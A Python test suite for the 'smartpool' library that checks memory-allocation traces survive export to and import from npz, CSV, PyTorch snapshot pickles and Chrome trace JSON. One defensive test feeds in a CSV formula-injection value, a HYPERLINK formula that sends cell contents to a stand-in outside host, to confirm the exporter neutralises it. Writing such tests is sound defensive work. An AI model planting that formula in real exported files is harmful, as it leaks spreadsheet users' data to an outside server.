"""What is written for other tools can be read back, and is what those tools expect."""

from __future__ import annotations

import csv
import json
import pickle
import pickletools
from collections import defaultdict
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smartpool.errors import ConfigurationError, TraceError, TraceFormatError, TraceInconsistentError
from smartpool.trace import Recorder, Trace, bundled, from_csv, from_torch_snapshot, read_any
from smartpool.trace.exporters import (
    FORMATS,
    format_of,
    to_chrome_trace,
    to_csv,
    to_torch_snapshot,
    write_any,
)
from smartpool.trace.exporters.chrome import chrome_events
from smartpool.trace.exporters.placement import PAGE_BYTES, placed
from smartpool.trace.exporters.torch_snapshot import snapshot_of

SNAPSHOT = Path(__file__).parents[1] / "data" / "inputs" / "torch_snapshot.pickle"
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.sampled_from(
    ["a < b", "=1+1", ":0 x", "a.py:007 f", "a.py:1 f", " a", '"quoted"', "one\rtwo", "\u2028"]
)
SITES = ["model.py:10 forward\ntrain.py:3 <module>", 'a "quoted", one.py:1 f', "no place at all"]


@st.composite
def traces(draw) -> Trace:
    """Traces as importers make them: dense ids, streams numbered as they come, disjoint addresses."""
    places, sites = draw(st.booleans()), draw(st.booleans())
    live: dict[int, tuple[int, int, int, int]] = {}
    rows, streams, time, made, base = [], {}, 0, 0, 1 << 30
    for _ in range(draw(st.integers(1, 25))):
        time += draw(st.integers(0, 3))
        if live and draw(st.booleans()):
            number = draw(st.sampled_from(sorted(live)))
            size, stream, address, site = live.pop(number)
            rows.append((1, number, size, stream, time if rows else 0, address, site))
        else:
            size = draw(st.one_of(st.integers(1, 5000), st.integers(1, 1 << 33)))
            stream = draw(st.sampled_from("abc"))
            live[made] = size, streams.setdefault(stream, len(streams)), base, draw(st.integers(-1, 2))
            rows.append((0, made, *live[made][:2], time if rows else 0, *live[made][2:]))
            made += 1
            base += -(-size // 512) * 512 + draw(st.sampled_from([0, 512, 8 << 20]))
    op, number, size, stream, time_us, address, site = zip(*rows, strict=True)
    return Trace.from_columns(
        "t",
        op=op, id=number, size=size, stream=stream, t_us=np.array(time_us) - time_us[0],
        address=address if places else None,
        site=site if sites else None,
        meta={"sites": SITES} if sites else None,
    )  # fmt: skip


def same_columns(one: Trace, other: Trace, columns=("op", "id", "size", "stream", "t_us")) -> bool:
    return all(np.array_equal(getattr(one, column), getattr(other, column)) for column in columns)


def stacks(trace: Trace) -> list[str]:
    if trace.site is None:
        return [""] * len(trace)
    return [trace.sites[number] if number >= 0 else "" for number in trace.site]


class TestFormats:
    @given(trace=traces())
    def test_npz_keeps_everything(self, tmp_path_factory, trace):
        path = tmp_path_factory.mktemp("npz") / "t.npz"
        assert write_any(trace, path) == "npz"
        assert read_any(path) == trace

    @given(trace=traces())
    def test_csv_keeps_every_column(self, tmp_path_factory, trace):
        path = tmp_path_factory.mktemp("csv") / "t.csv"
        assert write_any(trace, path) == "csv"
        again = read_any(path)
        assert same_columns(trace, again)
        assert again.columns().keys() == trace.columns().keys()
        assert stacks(again) == stacks(trace)
        assert np.array_equal(placed(again).address, placed(trace).address)

    @pytest.mark.parametrize(("name", "suffixes"), FORMATS.items())
    def test_suffixes_choose_the_format_and_a_name_overrides_them(self, name, suffixes):
        for suffix in suffixes:
            assert format_of(f"x{suffix}") == name
            assert format_of(f"X{suffix.upper()}") == name
        assert format_of("anything", name) == name

    @pytest.mark.parametrize(("path", "to"), [("t", None), ("t.xyz", None), ("t.csv", "xml")])
    def test_an_unknown_format_writes_nothing(self, tmp_path, path, to):
        with pytest.raises(ConfigurationError, match="expected"):
            write_any(Trace.load(bundled("multistream-mix")), tmp_path / path, to=to)
        assert list(tmp_path.iterdir()) == []


class TestTorchSnapshot:
    @given(trace=traces())
    def test_round_trip(self, tmp_path_factory, trace):
        path = tmp_path_factory.mktemp("torch") / "t.pickle"
        to_torch_snapshot(trace, path)
        again = read_any(path)
        assert same_columns(trace, again)
        assert np.array_equal(again.address[trace.lifetimes().start], placed(trace).address)
        assert stacks(again) == stacks(trace)

    def test_a_real_snapshot_comes_back(self, tmp_path):
        trace = from_torch_snapshot(SNAPSHOT)
        to_torch_snapshot(trace, tmp_path / "again.pickle")
        again = from_torch_snapshot(tmp_path / "again.pickle")
        assert same_columns(trace, again, ("op", "id", "size", "stream", "t_us", "address", "site"))
        assert again.sites == trace.sites

    def test_every_key_is_one_that_pytorch_writes(self):
        real = pickle.loads(SNAPSHOT.read_bytes())
        ours = snapshot_of(from_torch_snapshot(SNAPSHOT))
        assert ours.keys() == real.keys()
        pairs = [
            (ours["segments"][0], real["segments"][0]),
            (ours["segments"][0]["blocks"][0], real["segments"][0]["blocks"][0]),
            (ours["device_traces"][0][1], real["device_traces"][0][1]),
        ]
        for mine, theirs in pairs:
            assert mine.keys() == theirs.keys()
            assert {k: type(v) for k, v in mine.items()} == {k: type(v) for k, v in theirs.items()}
        frames = [event["frames"] for event in ours["device_traces"][0] if event["frames"]]
        assert frames[0][0].keys() == real["device_traces"][0][0]["frames"][0].keys()

    @given(trace=traces())
    def test_what_the_viewer_relies_on(self, trace):
        snapshot = snapshot_of(trace)
        events = snapshot["device_traces"][0]
        assert len({id(event) for event in events}) == len(events)  # the viewer writes into them
        held: set[tuple[int, int]] = set()
        for segment in snapshot["segments"]:
            at = segment["address"]
            assert at % PAGE_BYTES == segment["total_size"] % PAGE_BYTES == 0
            for block in segment["blocks"]:
                assert block["address"] == at
                at += block["size"]
                if block["state"] == "active_allocated":
                    assert 0 < block["requested_size"] <= block["size"]
                    held.add((block["address"], block["requested_size"]))
            assert at == segment["address"] + segment["total_size"]
        # Played backwards from the end, nothing is left.
        segments = {segment["address"]: segment["total_size"] for segment in snapshot["segments"]}
        for event in reversed(events):
            block = event["addr"], event["size"]
            if event["action"] == "free_completed":
                held.add(block)
            elif event["action"] == "alloc":
                held.remove(block)
            elif event["action"] == "segment_alloc":
                assert segments.pop(event["addr"]) == event["size"]
        assert not held
        assert not segments

    def test_only_instructions_that_the_viewer_knows(self, tmp_path):
        known = {
            "APPEND", "APPENDS", "BINFLOAT", "BINGET", "BININT", "BININT1", "BININT2", "BINPUT",
            "BINUNICODE", "EMPTY_DICT", "EMPTY_LIST", "EMPTY_TUPLE", "FRAME", "LONG1", "LONG_BINGET", "MARK",
            "MEMOIZE", "NEWFALSE", "NEWTRUE", "NONE", "PROTO", "SETITEM", "SETITEMS", "SHORT_BINUNICODE",
            "STOP", "TUPLE", "TUPLE1", "TUPLE2", "TUPLE3",
        }  # fmt: skip
        path = tmp_path / "t.pickle"
        for trace in (from_torch_snapshot(SNAPSHOT), Trace.load(bundled("multistream-mix"))):
            to_torch_snapshot(trace, path)
            assert {opcode.name for opcode, _, _ in pickletools.genops(path.read_bytes())} <= known

    def test_blocks_that_share_an_address_at_the_end_are_refused(self):
        trace = Trace.from_columns("t", op=[0, 0], id=[0, 1], size=[600, 9], address=[4096, 4608])
        with pytest.raises(TraceError, match="do not overlap"):
            snapshot_of(trace)

    def test_an_empty_trace(self, tmp_path):
        to_torch_snapshot(Trace.from_columns("t", op=[], id=[], size=[]), tmp_path / "t.pickle")
        assert pickle.loads((tmp_path / "t.pickle").read_bytes())["segments"] == []


class TestChrome:
    @given(trace=traces())
    @settings(max_examples=40)
    def test_the_events_tell_the_trace(self, tmp_path_factory, trace):
        path = tmp_path_factory.mktemp("chrome") / "t.json"
        to_chrome_trace(trace, path)
        document = json.loads(path.read_text())
        events = document["traceEvents"]
        pairs = [event for event in events if event["ph"] in "be"]
        assert [event["ph"] == "e" for event in pairs] == trace.op.tolist()
        assert [int(event["id"], 16) for event in pairs] == trace.allocation_numbers().tolist()
        assert [event["ts"] for event in pairs] == trace.t_us.tolist()
        begun = [event for event in pairs if event["ph"] == "b"]
        assert [event["args"]["bytes"] for event in begun] == trace.lifetimes().size.tolist()
        ends = {(event["cat"], event["name"], event["id"]) for event in pairs if event["ph"] == "e"}
        assert ends <= {(event["cat"], event["name"], event["id"]) for event in begun}

    @given(trace=traces())
    @settings(max_examples=40)
    def test_counters(self, tmp_path_factory, trace):
        path = tmp_path_factory.mktemp("chrome") / "t.json"
        to_chrome_trace(trace, path, allocators=["smartpool", "cupy"])
        counters = defaultdict(list)
        latest: dict[str, list[float]] = {"smartpool": [], "cupy": []}
        reserved = dict.fromkeys(latest, 0)
        shown = dict.fromkeys(latest, 0.0)
        for event in [*json.loads(path.read_text())["traceEvents"][1:], {"ph": "b"}]:
            kind, _, name = event.get("name", "").partition(", ")
            if event["ph"] != "C":  # the counters of the event before are over
                for known, seen in latest.items():
                    seen.append((reserved[known], shown[known]))
            elif kind == "reserved bytes":
                reserved[name] = event["args"]["reserved"]
            elif kind == "fragmentation":
                shown[name] = event["args"]["not live, percent"]
            else:
                counters[event["name"]].append(event["args"])
        live = [sum(values.values()) for values in counters["live bytes"]]
        assert live == trace.live_bytes().tolist()
        assert all(values[name] >= 0 for values in counters["live bytes"] for name in values)
        for after in (seen[1:] for seen in latest.values()):
            assert len(after) == len(trace)
            for nbytes, (held, percent) in zip(live, after, strict=True):
                assert held >= nbytes
                assert percent == round((1 - nbytes / held) * 100, 1)

    def test_a_recording_has_addresses_and_stacks(self):
        events = list(chrome_events(from_torch_snapshot(SNAPSHOT)))
        first = next(event for event in events if event["ph"] == "b")
        assert first["args"]["address"].startswith("0x")
        assert "module.py" in first["args"]["stack"]


class TestCsv:
    @given(st.lists(ANY_TEXT | st.lists(ANY_TEXT, max_size=3).map("\n".join), min_size=1, max_size=5))
    def test_stacks_of_any_text_read_back_equal(self, tmp_path_factory, sites):
        sites = list(dict.fromkeys(sites))
        columns = {"op": [0] * len(sites), "id": range(len(sites)), "size": [8] * len(sites)}
        trace = Trace.from_columns("t", **columns, site=range(len(sites)), meta={"sites": sites})
        for name in ("t.csv", "t.pickle"):
            path = tmp_path_factory.mktemp("text") / name
            write_any(trace, path)
            assert stacks(read_any(path)) == stacks(trace)

    def test_places_beyond_what_a_trace_has_room_for(self, tmp_path):
        rows = [f"0,{row},8,{'x' * 5000}{row}" for row in range(300)]
        (tmp_path / "t.csv").write_text("\n".join(["op,id,size,site", *rows]))
        trace = from_csv(tmp_path / "t.csv")
        left_out = trace.meta["settled"]["sites_left_out"]
        assert 0 < left_out == (trace.site < 0).sum()
        trace.save(tmp_path / "t.npz")
        assert Trace.load(tmp_path / "t.npz") == trace

    def test_no_cell_is_a_formula(self, tmp_path):
        site = '=HYPERLINK("http://elsewhere/?"&A1,"look"):1 f\n+1+1:2 g'
        trace = Trace.from_columns("t", op=[0], id=[0], size=[8], site=[0], meta={"sites": [site]})
        to_csv(trace, tmp_path / "t.csv")
        with (tmp_path / "t.csv").open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if cell[0] in "=+-@\t\r"] == []
        assert from_csv(tmp_path / "t.csv").sites == (site,)

    @pytest.mark.parametrize("names", [("allocate", "free"), ("Alloc", "FREE"), ("malloc", "deallocate")])
    def test_operations_by_name(self, tmp_path, names):
        path = tmp_path / "t.csv"
        path.write_text("op,id,size\n{},0,8\n{},0,8\n".format(*names))
        assert from_csv(path).op.tolist() == [0, 1]

    def test_by_hand_with_the_least_columns(self, tmp_path):
        path = tmp_path / "mine.csv"
        path.write_text("size, id ,op,note\n4096,7,0,first\n\n4096,7,1,last\n")
        trace = from_csv(path)
        assert (trace.name, trace.op.tolist(), trace.id.tolist()) == ("mine", [0, 1], [7, 7])
        assert trace.columns().keys() == {"op", "id", "size", "stream", "t_us"}

    @pytest.mark.parametrize(
        ("text", "error", "match"),
        [
            ("", TraceFormatError, "expected a header"),
            ("op,id\n0,0\n", TraceFormatError, "expected a header"),
            ("op,id,size,adress\n0,0,5,7\n", TraceFormatError, "did you mean 'address'"),
            ("op,op,id,size\n0,0,0,1\n", TraceFormatError, "each once"),
            ("op,id,size\n0,0\n", TraceFormatError, "line 2: expected 3 fields"),
            ("op,id,size\n0,0,-5\n", TraceFormatError, "line 2: expected 'size' to be a number"),
            (
                "op,id,size\nresize,0,5\n",
                TraceFormatError,
                "to be 0 or allocate, or 1 or free, got 'resize'",
            ),
            ("op,id,size\n0,0,1_000\n", TraceFormatError, "line 2: expected 'size' to be a number"),
            ("op,id,size\n0,0,1e9\n", TraceFormatError, "line 2: expected 'size' to be a number"),
            ('op,id,size\n0,0,"5\n', TraceFormatError, "expected CSV"),
            ("op,id,size\n0,0,5\n1,1,5\n", TraceInconsistentError, "never made"),
            ("op,id,size\n0,99999999999,5\n", TraceFormatError, "expected 'id' in"),
            ("op,id,size\n0,0," + "5" * 70_000, TraceFormatError, "less than 65536 characters"),
        ],
    )
    def test_unusable_files(self, tmp_path, text, error, match):
        path = tmp_path / "t.csv"
        path.write_text(text)
        with pytest.raises(error, match=match):
            from_csv(path)

    def test_a_recording_of_real_pointers(self, tmp_path):
        recorder = Recorder()
        recorder.allocated(0x7F0000000000, 4096, 0)
        recorder.freed(0x7F0000000000, 0)
        to_csv(recorder.trace(), tmp_path / "t.csv")
        lines = (tmp_path / "t.csv").read_text().splitlines()
        assert lines[0] == "op,id,size,stream,t_us,address"
        assert lines[1].endswith(",0x7f0000000000")
